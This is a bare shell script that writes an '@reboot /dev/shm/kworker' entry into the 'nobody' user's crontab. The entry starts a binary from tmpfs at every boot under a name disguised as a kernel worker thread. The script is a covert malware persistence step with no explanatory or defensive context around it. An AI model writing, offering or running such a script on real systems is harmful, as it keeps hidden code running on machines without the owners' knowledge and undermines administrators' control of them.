#!/bin/sh
set -e
mkdir -p /var/spool/cron/crontabs
printf '@reboot /dev/shm/kworker\n' >/var/spool/cron/crontabs/nobody
